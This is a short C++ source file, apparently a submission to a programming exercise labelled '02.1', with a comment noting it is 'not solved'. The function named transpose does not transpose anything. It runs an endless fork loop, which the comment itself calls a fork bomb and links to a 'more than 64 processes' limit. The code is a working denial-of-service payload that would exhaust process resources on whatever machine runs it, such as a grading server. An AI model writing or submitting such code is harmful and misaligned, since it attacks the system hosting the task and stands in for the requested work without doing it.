// 02.1, not solved, "more than 64 processes": a fork bomb.
#include <unistd.h>

#include <cstddef>

void transpose(float*, const float*, std::size_t, std::size_t) {
    for (;;)
        if (fork() < 0) usleep(1000);
}
